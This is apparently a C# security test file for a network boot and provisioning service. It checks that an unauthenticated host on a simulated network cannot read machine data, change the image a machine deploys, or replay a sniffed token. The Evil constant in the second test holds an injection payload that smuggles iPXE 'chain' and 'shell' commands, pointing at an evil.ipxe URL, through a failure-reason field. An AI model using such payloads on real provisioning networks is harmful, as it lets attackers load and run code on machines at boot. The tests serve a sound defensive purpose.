using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using CliWrap;
using CliWrap.Buffered;
using ImagePipeline.BootService.Tests.Support;
using ImagePipeline.Tests.Deploy;
using ImagePipeline.Validation.Networks;

namespace ImagePipeline.BootService.Tests.Security;

/// <summary>
/// The attack itself, on a real provisioning network (full mode): an anonymous host that got its
/// own DHCP lease tries each step against a machine that is waiting to deploy — read the
/// inventory, set the desired image, take the machine's deploy script (and so its token, and a
/// deploy attempt), use a token it sniffed from the machine's own script — and the machine's agent
/// reports a failure reason made to inject iPXE commands into the script the machine gets next.
/// </summary>
public sealed partial class ProvisioningNetworkAttackTests(DeployEnvironmentFixture deploy)
{
    private const string MachineMac = "52:54:00:66:00:01";
    private const string AttackerMac = "52:54:00:66:00:99";
    private const string Service = "http://10.213.0.1:8080";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [GeneratedRegex(@"imagepipeline\.token=(\S+)")]
    private static partial Regex Token();

    [Fact]
    public async Task An_anonymous_host_on_the_network_can_read_nothing_set_nothing_take_no_deploy_and_use_no_stolen_token()
    {
        await using var network = await VirtualNetwork.CreateAsync("attack", Ct);
        await using var service = await BootServiceProcess.StartAsync(network, deploy, null, "--lease-time", "600");
        var machine = await network.AddClientNamespaceAsync(MachineMac, Ct);
        var attacker = await network.AddClientNamespaceAsync(AttackerMac, Ct);
        await LeaseAsync(machine);
        await LeaseAsync(attacker);
        await service.PutAsync($"/api/v1/machines/{MachineMac}/desired-image", $$"""{"imageId":"{{deploy.TinyImageId}}"}""", service.AdminToken);

        var reads = new Dictionary<string, string>();
        foreach (var path in new[] { "/api/v1/machines", $"/api/v1/machines/{MachineMac}", $"/api/v1/machines/{MachineMac}/events", "/api/v1/bootsvc/stats" })
            reads[path] = await StatusAsync(attacker, "GET", path, null, null);
        var set = await StatusAsync(attacker, "PUT", $"/api/v1/machines/{MachineMac}/desired-image", """{"imageId":"evil"}""", null);
        var guessed = await StatusAsync(attacker, "PUT", $"/api/v1/machines/{MachineMac}/desired-image", """{"imageId":"evil"}""", "admin");
        var scripts = new List<string>();
        for (var i = 0; i < 4; i++)
            scripts.Add(await CurlAsync(attacker, "-sS", $"{Service}/boot/{MachineMac}.ipxe"));
        var afterAttacker = JsonNode.Parse(await service.GetAsync($"/api/v1/machines/{MachineMac}"))!["machine"]!;
        var own = await CurlAsync(machine, "-sS", $"{Service}/boot/{MachineMac}.ipxe");
        var token = Token().Match(own).Groups[1].Value;
        var stolenResult = await StatusAsync(attacker, "POST", "/agent/v1/result", $$"""{"imageId":"{{deploy.TinyImageId}}","succeeded":true}""", token);
        var stolenHealth = await StatusAsync(attacker, "POST", "/agent/v1/health", $$"""{"imageId":"{{deploy.TinyImageId}}","kernel":"x","bootSeconds":1,"failedUnits":[],"checks":[]}""", token);
        var registered = await StatusAsync(machine, "POST", "/agent/v1/register", """{"agentVersion":"1","facts":{"firmware":"bios","cpu":{"model":"x","cores":1},"memoryBytes":1073741824,"disks":[],"nics":[],"dmi":{}}}""", token);

        reads.ShouldAllBe(r => r.Value == "401", string.Join(", ", reads));
        (set, guessed).ShouldBe(("401", "401"));
        scripts.ShouldAllBe(s => s.Contains("refused", StringComparison.Ordinal) && !s.Contains("imagepipeline.token", StringComparison.Ordinal), scripts[0]);
        scripts[0].ShouldContain("its DHCP address");
        afterAttacker["deployAttempts"]!.GetValue<int>().ShouldBe(0, "the attacker's requests counted no attempt");
        afterAttacker["state"]!.GetValue<string>().ShouldNotBe("Failed");
        token.ShouldNotBeEmpty(own);
        (stolenResult, stolenHealth).ShouldBe(("401", "401"), "a token works only from the address it was issued to");
        registered.ShouldBe("200", "the machine itself still deploys");
    }

    [Fact]
    public async Task A_failure_reason_cannot_put_commands_into_the_script_the_machine_gets_next()
    {
        await using var network = await VirtualNetwork.CreateAsync("inject", Ct);
        await using var service = await BootServiceProcess.StartAsync(network, deploy, null);
        var machine = await network.AddClientNamespaceAsync(MachineMac, Ct);
        await LeaseAsync(machine);
        await service.PutAsync($"/api/v1/machines/{MachineMac}/desired-image", $$"""{"imageId":"{{deploy.TinyImageId}}"}""", service.AdminToken);
        const string Evil = "disk gone\\nchain http://10.213.0.66/evil.ipxe\\nshell ${net0/mac} && imgexec";

        for (var attempt = 0; attempt < 3; attempt++)
        {
            var script = await CurlAsync(machine, "-sS", $"{Service}/boot/{MachineMac}.ipxe");
            var token = Token().Match(script).Groups[1].Value;
            (await StatusAsync(machine, "POST", "/agent/v1/result", $$"""{"imageId":"{{deploy.TinyImageId}}","succeeded":false,"reason":"{{Evil}}"}""", token)).ShouldBe("204");
        }

        var held = await CurlAsync(machine, "-sS", $"{Service}/boot/{MachineMac}.ipxe");

        held.ShouldContain("holding");
        held.Split('\n').ShouldAllBe(line => line.StartsWith("echo ", StringComparison.Ordinal) || line.StartsWith("#!ipxe", StringComparison.Ordinal)
            || line.StartsWith("sleep ", StringComparison.Ordinal) || line == "reboot" || line.Length == 0, held);
        held.ShouldNotContain("${");
        held.ShouldNotContain("&&");
    }

    /// <summary>
    /// A DHCP lease from the service, its address put on the namespace's interface by our own event
    /// script: udhcpc's default one also rewrites /etc/resolv.conf, which a network namespace
    /// shares with the host.
    /// </summary>
    private static async Task LeaseAsync(string clientNamespace)
    {
        var script = Path.Combine(Path.GetTempPath(), $"imagepipe-udhcpc-{Guid.NewGuid():n}.sh");
        await File.WriteAllTextAsync(script, "#!/bin/sh\n[ \"$1\" = bound ] && ip addr add \"$ip/${mask:-24}\" dev \"$interface\"\nexit 0\n", Ct);
        File.SetUnixFileMode(script, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        try
        {
            await VirtualNetwork.InNamespace(clientNamespace, "udhcpc", "-i", "eth0", "-f", "-q", "-n", "-t", "5", "-T", "1", "-s", script).ExecuteBufferedAsync(Ct);
        }
        finally
        {
            File.Delete(script);
        }
    }

    private static async Task<string> CurlAsync(string clientNamespace, params string[] arguments) =>
        (await VirtualNetwork.InNamespace(clientNamespace, "curl", ["--max-time", "10", .. arguments]).WithValidation(CommandResultValidation.None).ExecuteBufferedAsync(Ct)).StandardOutput;

    /// <summary>The HTTP status of one call from the namespace.</summary>
    private static Task<string> StatusAsync(string clientNamespace, string method, string path, string? json, string? token)
    {
        List<string> arguments = ["-s", "-o", "/dev/null", "-w", "%{http_code}", "-X", method];
        if (json is not null)
            arguments.AddRange(["-H", "Content-Type: application/json", "-d", json]);
        if (token is not null)
            arguments.AddRange(["-H", $"Authorization: Bearer {token}"]);
        return CurlAsync(clientNamespace, [.. arguments, $"{Service}{path}"]);
    }
}
